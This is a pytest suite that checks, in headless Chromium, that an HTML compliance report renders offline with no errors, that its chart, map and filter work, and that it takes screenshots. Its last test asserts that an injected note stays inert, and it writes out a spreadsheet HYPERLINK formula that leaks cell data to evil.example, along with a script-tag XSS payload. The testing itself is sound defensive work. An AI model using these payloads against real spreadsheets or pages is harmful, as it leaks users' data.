"""The HTML report in a real browser: headless Chromium (Debian's ``chromium``) over the DevTools protocol.

Checks that the page renders with no console error, no uncaught exception and no network request,
that the chart and the map are drawn, that the filter script runs, that the injected event stays
inert (with and without the page's Content-Security-Policy), and takes screenshots of the page, the
chart and the map (kept in $COMPLIANCE_SCREENSHOTS if set). Skipped, with the reason, where no Chromium
is installed.
"""

from __future__ import annotations

import os
import shutil
import struct
from pathlib import Path

import pytest
from chromium_cdp import Chromium, find_chromium

from compliance.reports import html
from compliance.reports.model import Report

BINARY = find_chromium()
pytestmark = pytest.mark.skipif(BINARY is None,
                                reason="Chromium is not installed (Debian: apt-get install -y chromium)")


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    base = tmp_path_factory.mktemp("chromium")
    chromium = Chromium(BINARY, base / "profile")
    yield chromium
    chromium.close()


def _png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", data[16:24])


def _write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _clean(page, path: Path) -> None:
    record = page.record()
    assert record.errors() == []
    assert record.requests == [path.as_uri()], "the page must load nothing but itself"
    assert record.failed == []
    assert page.evaluate("performance.getEntriesByType('resource').length") == 0


def test_detector_sees_errors_and_requests(browser, tmp_path: Path):
    """The checks below would notice: a page with an error and an outside image is caught."""
    path = _write(tmp_path, "bad.html", '<!DOCTYPE html><html><head><meta charset="utf-8"><title>x</title></head>'
                  '<body><img src="http://127.0.0.1:9/x.png"><script>console.error("boom")</script></body></html>')
    record = browser.open(path.as_uri()).record()
    assert any("boom" in e for e in record.errors())
    assert "http://127.0.0.1:9/x.png" in record.requests


def test_shipped_report_renders_offline(browser, shipped: Report, tmp_path: Path):
    path = _write(tmp_path, "report.html", html.render(shipped))
    page = browser.open(path.as_uri(), width=1200)
    _clean(page, path)
    located = shipped.findings.dropna(subset=["lat"])["event_id"].nunique()
    drawn = page.evaluate("""({
        maps: document.querySelectorAll('svg.map').length,
        dots: document.querySelector('svg.map').querySelectorAll('circle > title').length,
        zones: document.querySelector('svg.map').querySelectorAll('path > title').length,
        bars: document.querySelectorAll('svg.chart rect > title').length,
        chartBox: document.querySelector('svg.chart').getBoundingClientRect().height,
        mapBox: document.querySelector('svg.map').getBoundingClientRect().height,
        rows: document.querySelectorAll('#findings-table tbody tr').length,
        scripts: document.scripts.length })""")
    assert drawn["maps"] >= 1 and drawn["dots"] == located
    assert drawn["zones"] == len(shipped.inputs.terms.zones.zones)
    assert drawn["bars"] > 0 and drawn["chartBox"] > 200 and drawn["mapBox"] > 300
    assert drawn["rows"] == len(shipped.findings) and drawn["scripts"] == 1
    # the filter script runs (the page's CSP lets it, by hash) and reads only the page
    shown = page.evaluate("""(function () {
        var box = document.getElementById('filter');
        box.value = 'turkey guarantor'; box.dispatchEvent(new Event('input'));
        var visible = Array.from(document.querySelectorAll('#findings-table tbody tr')).filter(r => !r.hidden);
        var text = document.getElementById('filter-count').textContent;
        box.value = ''; box.dispatchEvent(new Event('input'));
        return [visible.length, text]; })()""")
    expected = int(((shipped.findings["party"] == "turkey") & (shipped.findings["role"] == "guarantor")).sum())
    assert shown == [expected, f"{expected} of {len(shipped.findings)} shown"]
    _clean(page, path)
    # screenshots: the whole page, and the chart and the map on their own
    shot = page.screenshot(tmp_path / "report.png")
    width, height = _png_size(shot)
    assert width >= 1000 and height > 2000 and len(shot) > 100_000, (width, height, len(shot))
    for name, selector in (("chart", "svg.chart"), ("map", "svg.map")):
        png = page.screenshot(tmp_path / f"{name}.png", selector)
        assert _png_size(png)[0] >= 900 and len(png) > 15_000, (name, len(png))
    keep = os.environ.get("COMPLIANCE_SCREENSHOTS")  # a folder to keep them in (a CI artefact, say)
    if keep:
        Path(keep).mkdir(parents=True, exist_ok=True)
        for name in ("report", "chart", "map"):
            shutil.copyfile(tmp_path / f"{name}.png", Path(keep) / f"{name}.png")
    print(f"screenshots in {keep or tmp_path}")


@pytest.mark.parametrize("csp", [True, False], ids=["with-csp", "without-csp"])
def test_injected_event_is_inert_in_the_browser(browser, small: Report, tmp_path: Path, csp: bool):
    text = html.render(small)
    if not csp:  # escaping alone must suffice, the policy is a second line
        text = text.replace(text[text.index('<meta http-equiv="Content-Security-Policy"'):].split(">", 1)[0] + ">", "")
        assert "Content-Security-Policy" not in text
    path = _write(tmp_path, "small.html", text)
    page = browser.open(path.as_uri())
    _clean(page, path)
    state = page.evaluate("""({ pwned: typeof window.__pwned, scripts: document.scripts.length,
        images: document.images.length,
        notes: Array.from(document.querySelectorAll('dd')).map(d => d.textContent)
                 .filter(t => t.indexOf('=HYPERLINK') === 0)[0] })""")
    assert state["pwned"] == "undefined" and state["scripts"] == 1 and state["images"] == 0
    assert state["notes"].startswith('=HYPERLINK("https://evil.example/?leak="&A1,"Click me") '
                                     "<script>window.__pwned=1</script>")
